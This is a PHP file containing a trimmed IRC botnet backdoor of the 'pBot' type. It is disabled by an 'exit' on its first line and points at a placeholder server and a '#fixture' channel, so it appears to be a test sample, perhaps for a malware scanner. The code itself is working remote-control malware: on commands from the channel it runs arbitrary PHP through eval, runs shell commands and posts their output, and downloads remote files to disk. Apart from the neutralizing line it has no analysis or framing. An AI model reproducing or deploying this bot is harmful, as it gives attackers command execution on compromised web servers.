<?php exit; /* inert */ set_time_limit(0);
class pBot
{
    var $config = array("server" => "irc.example.invalid", "port" => "6667", "pass" => "", "prefix" => "x", "chan" => "#fixture", "trigger" => ".", "hostauth" => "*");
    var $users = array();
    function start()
    {
        if (!($this->conn = fsockopen($this->config['server'], $this->config['port'], $e, $s, 30))) { $this->start(); }
        $this->send("USER x 127.0.0.1 localhost :x");
        $this->send("NICK " . $this->config['prefix']);
        $this->main();
    }
    function send($msg) { fwrite($this->conn, "$msg\r\n"); }
    function privmsg($to, $msg) { $this->send("PRIVMSG $to :$msg"); }
    function main()
    {
        while (!feof($this->conn)) {
            $buf = trim(fgets($this->conn, 512));
            $cmd = explode(" ", $buf);
            if (substr($buf, 0, 6) == "PING :") { $this->send("PONG :" . substr($buf, 6)); }
            if (isset($cmd[1]) && $cmd[1] == "PRIVMSG") {
                $msg = substr(strstr($buf, " :"), 2);
                $mcmd = explode(" ", $msg);
                switch (substr($mcmd[0], 1)) {
                    case "join": $this->send("JOIN " . $mcmd[1]); break;
                    case "eval": $eval = eval(substr(strstr($msg, $mcmd[1]), 0)); break;
                    case "exec":
                        $command = substr(strstr($msg, $mcmd[0]), strlen($mcmd[0]) + 1);
                        $ret = explode("\n", shell_exec($command));
                        foreach ($ret as $l) { $this->privmsg($this->config['chan'], trim($l)); }
                        break;
                    case "download":
                        $fp = fopen($mcmd[2], "w");
                        fwrite($fp, file_get_contents($mcmd[1]));
                        fclose($fp);
                        break;
                }
            }
        }
    }
}
$bot = new pBot;
$bot->start();
